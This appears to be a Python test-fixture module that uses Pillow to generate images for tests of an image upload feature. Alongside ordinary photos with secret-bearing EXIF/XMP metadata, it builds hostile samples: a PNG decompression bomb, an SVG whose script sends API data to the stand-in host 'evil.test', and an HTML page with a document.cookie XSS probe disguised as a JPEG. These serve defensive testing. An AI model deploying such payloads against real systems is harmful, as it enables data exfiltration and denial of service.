"""Real image files for tests and benchmarks, made with Pillow (no binary fixtures in the repository):
ordinary photos and drawings, and the hostile files of issue 12 (a PNG decompression bomb, an SVG with a
script, an HTML page named ``.jpg``, a 30 MB JPEG)."""

from __future__ import annotations

import functools
import io
import os
import struct
import zlib

from PIL import Image, ImageDraw

#: Text hidden in the metadata of the photos below: it must never reach a stored image.
SECRET = "Folio-test-secret-camera-serial-42"


def photo(width: int = 1200, height: int = 800, *, orientation: int = 1, fmt: str = "JPEG") -> bytes:
    """A picture with a gradient and a red block in its top-left corner (to check orientation), with EXIF
    (camera model and serial, GPS position, orientation), an XMP packet and a comment holding SECRET."""
    image = Image.linear_gradient("L").resize((width, height)).convert("RGB")
    ImageDraw.Draw(image).rectangle((0, 0, width // 4, height // 4), fill=(220, 20, 20))
    exif = image.getexif()
    exif[0x010F] = "FolioCam"  # Make
    exif[0x0110] = SECRET  # Model
    exif[0x0112] = orientation
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (48.0, 51.0, 24.0), 3: "E", 4: (2.0, 21.0, 7.0)})
    out = io.BytesIO()
    xmp = f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:Description>{SECRET}</rdf:Description></x:xmpmeta>'
    options = {"exif": exif.tobytes(), "xmp": xmp.encode()}
    if fmt == "JPEG":
        options.update(quality=90, comment=SECRET.encode())
    image.save(out, fmt, **options)
    return out.getvalue()


def drawing(width: int = 640, height: int = 480, *, transparent: bool = False) -> bytes:
    """A PNG drawing (optionally with a transparent background)."""
    mode, background = ("RGBA", (0, 0, 0, 0)) if transparent else ("RGB", (250, 250, 240))
    image = Image.new(mode, (width, height), background)
    margin = min(width, height) // 8
    ImageDraw.Draw(image).ellipse(
        (margin, margin, width - 1 - margin, height - 1 - margin), fill=(30, 90, 200, 255)[: len(mode)]
    )
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


@functools.cache
def png_bomb(side: int = 20_000) -> bytes:
    """A valid PNG of ``side`` x ``side`` black pixels (400 M pixels: 400 MB decoded as greyscale, 1.2 GB as
    RGB) compressed into under 2 MB: built chunk by chunk with zlib, never decoded here."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)  # 8-bit greyscale
    rows = (b"\x00" + b"\x00" * side) * 50  # filter byte + one byte per pixel, 50 rows at a time
    compressor = zlib.compressobj(1)
    body = b"".join(compressor.compress(rows) for _ in range(side // 50)) + compressor.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
    b'<script>fetch("/api/articles/").then(r => r.text()).then(t => navigator.sendBeacon("//evil.test", t))'
    b'</script><rect width="100" height="100" fill="red"/></svg>'
)
HTML_NAMED_JPG = (
    b"<!DOCTYPE html><html><head><title>Not a picture</title></head><body>"
    b"<script>alert(document.cookie)</script><p>This page pretends to be a JPEG.</p></body></html>"
)


@functools.cache
def jpeg_30mb() -> bytes:
    """A real JPEG of random noise, just over 30 MB (3,072 x 2,560 pixels at quality 100)."""
    width, height = 3072, 2560
    noise = Image.frombytes("RGB", (width, height), os.urandom(width * height * 3))
    out = io.BytesIO()
    noise.save(out, "JPEG", quality=100, subsampling=0)
    data = out.getvalue()
    assert len(data) > 30 * 1024 * 1024, len(data)  # noise does not compress: ~4 bytes per pixel
    return data
